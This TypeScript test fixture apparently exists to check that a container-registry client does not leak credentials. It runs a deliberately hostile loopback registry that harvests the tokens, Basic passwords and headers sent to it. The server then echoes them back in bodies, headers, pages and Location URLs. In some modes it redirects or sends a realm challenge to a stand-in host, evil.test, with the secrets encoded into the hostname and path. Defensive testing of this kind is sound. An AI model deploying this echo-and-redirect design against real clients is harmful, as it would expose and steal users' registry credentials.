import type { IncomingMessage, ServerResponse } from 'node:http';
import { startLoopbackServer, type TlsIdentity } from '../../src/lab/loopback-server.ts';
import { uploadLocation } from './scripted-registry.ts';

/** Where a server repeats what it was told in confidence. */
export const echoModes = ['body', 'page', 'headers', 'location', 'foreign', 'realm', 'token', 'code'] as const;
export type EchoMode = (typeof echoModes)[number];

export interface EchoRegistry {
  readonly url: string;
  /** Whole requests: what it could have repeated. */
  readonly seen: string;
  close(): Promise<void>;
}

export interface EchoOptions {
  readonly scheme: 'basic' | 'bearer';
  /** What its token service gives. */
  readonly token: string;
  /** Also this is not repeated to those who have not sent it yet: they cannot know it before. */
  readonly late?: readonly string[];
}

/**
 * A registry that asks for a token (or for Basic), and then repeats every credential that it ever got, as its mode has it: also
 * in answers to requests that came without.
 */
export async function startEchoRegistry(
  mode: EchoMode,
  options: EchoOptions & { readonly tls?: TlsIdentity },
): Promise<EchoRegistry> {
  const told = new Set<string>();
  let seen = '';
  const server = await startLoopbackServer({
    tls: options.tls,
    onRequest(request, response) {
      let body = '';
      request.on('data', (chunk: Buffer) => (body.length < 4096 ? (body += chunk.toString('latin1')) : undefined));
      request.on('end', () => {
        seen += `${request.method} ${request.url} ${JSON.stringify(request.headers)} ${body.slice(0, 2000)}\n`;
        listen(request, body, told);
        answer(mode, options, request, response, [...told]);
      });
    },
  });
  return {
    url: server.url,
    get seen() {
      return seen;
    },
    close: server.close,
  };
}

function listen(request: IncomingMessage, body: string, told: Set<string>): void {
  const { authorization = '', ...headers } = request.headers;
  const [scheme = '', rest = ''] = authorization.split(' ');
  const pair = scheme.toLowerCase() === 'basic' ? Buffer.from(rest, 'base64').toString() : '';
  const form = request.url?.startsWith('/token') ? [...new URLSearchParams(body)] : [];
  const posted = form.filter(([name]) => /password|refresh_token/.test(name)).map(([, value]) => value);
  const extra = Object.entries(headers).flatMap(([name, value]) => (name.startsWith('x-') ? [String(value)] : []));
  for (const text of [authorization, rest, pair, pair.slice(pair.indexOf(':') + 1), ...posted, ...extra])
    if (text !== '') told.add(text);
}

const echoHeaders = [
  'Server',
  'Via',
  'X-Request-Id',
  'Docker-Upload-Uuid',
  'Warning',
  'CF-Ray',
  'Range',
  'Content-Type',
];

function answer(
  mode: EchoMode,
  { scheme, token, late = [] }: EchoOptions,
  request: IncomingMessage,
  response: ServerResponse,
  told: readonly string[],
): void {
  const all = told.join(' and ');
  const line = all.replaceAll(/[^\x20-\x7e]/g, '?');
  const end = (status: number, headers: Record<string, string | string[]>, text = ''): void => {
    response.writeHead(status, { 'Content-Length': String(Buffer.byteLength(text)), ...headers });
    response.end(request.method === 'HEAD' ? undefined : text);
  };
  if (request.url?.startsWith('/token')) {
    if (mode === 'token') end(403, { Server: line, Via: line }, JSON.stringify({ details: all, again: told }));
    else end(200, {}, JSON.stringify({ token, access_token: token, expires_in: 300 }));
    return;
  }
  if (request.headers.authorization === undefined) {
    const challenge =
      scheme === 'basic' ? 'Basic realm="echo"' : 'Bearer realm="/token",service="echo",scope="repository:a/b:pull"';
    const early = told.filter((text) => ![token, ...late].some((one) => text.includes(one))).join(' and ');
    end(401, { 'WWW-Authenticate': challenge, 'X-Request-Id': early.replaceAll(/[^\x20-\x7e]/g, '?') }, early);
    return;
  }
  const errors = (code: string): string => JSON.stringify({ errors: [{ code, message: all, detail: told }] });
  const encoded = told.map(encodeURIComponent).join('/');
  switch (mode) {
    case 'body':
      return end(500, { 'Content-Type': 'application/json' }, errors('UNKNOWN'));
    case 'page':
      return end(403, { 'Content-Type': 'text/html' }, `<pre>${escapeHtml(all).repeat(40)}</pre>${' '.repeat(3000)}`);
    case 'headers':
      return end(403, Object.fromEntries(echoHeaders.map((name) => [name, line])), errors('DENIED'));
    case 'location': {
      const to = `${uploadLocation}/${encoded}?_state=CANARY-upload-state&${encoded}`;
      if (request.method === 'POST') return end(202, { Location: to, 'Docker-Upload-Uuid': line });
      return end(500, { 'X-Request-Id': `${request.url}` }, `${request.url} ${errors('UNKNOWN')}`);
    }
    case 'foreign':
      return end(307, { Location: `http://${hostOf(told)}.evil.test/${encoded}?token=CANARY-location-query` });
    case 'realm': {
      const realm = `http://${hostOf(told)}.evil.test/${encoded}?token=CANARY-realm-query`;
      return end(401, { 'WWW-Authenticate': `Bearer realm="${realm}",service="${line.replaceAll('"', '')}"` }, all);
    }
    case 'code':
      return end(400, {}, errors(told.find((text) => /^[A-Z0-9_]+$/.test(text)) ?? 'UNKNOWN'));
    case 'token':
      return end(401, { 'WWW-Authenticate': 'Bearer realm="/token"' }, all);
    default:
      return mode satisfies never;
  }
}

/** As much of a secret as a host name holds. */
function hostOf(told: readonly string[]): string {
  return told
    .filter((text) => /^[\w-]{4,60}$/.test(text))
    .slice(0, 3)
    .join('.');
}

function escapeHtml(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
}
